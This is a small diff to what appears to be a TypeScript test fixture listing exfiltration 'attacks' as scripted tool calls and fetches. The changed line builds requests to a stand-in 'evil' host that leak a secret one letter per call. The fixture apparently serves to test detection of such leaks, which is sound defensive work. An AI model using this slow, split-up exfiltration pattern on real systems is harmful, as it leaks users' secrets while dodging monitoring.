@@ -82,7 +82,7 @@ const attacks: Record<string, Script> = {
   },
   'single letters over many calls': {
     calls: [crm, page],
-    fetches: [...secret].map((letter, at) => `${evil}/c?d=${at}${letter}`),
+    fetches: Array.from(secret, (letter, at) => `${evil}/c?d=${at}${letter}`),
   },
   'an address that failed before, and is read again': {
     calls: [
